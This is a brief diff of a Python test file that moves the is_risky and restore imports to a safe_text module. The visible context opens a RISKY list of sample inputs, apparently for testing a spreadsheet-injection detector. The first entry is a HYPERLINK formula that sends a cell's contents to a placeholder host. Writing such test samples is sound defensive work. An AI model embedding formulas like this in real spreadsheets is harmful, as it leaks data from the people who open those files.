@@ -18,8 +18,8 @@ from openpyxl.workbook import Workbook
 from tests.conftest import Cli
 from tests.flows.state import state
 from tests.flows.test_flows_bad_input import HEAD, TERMS, refused
-from vendoreval.formats.cells import is_risky, restore
 from vendoreval.resources import resource
+from vendoreval.safe_text import is_risky, restore
 
 RISKY = [
     '=HYPERLINK("http://x/?"&A1,"click")',
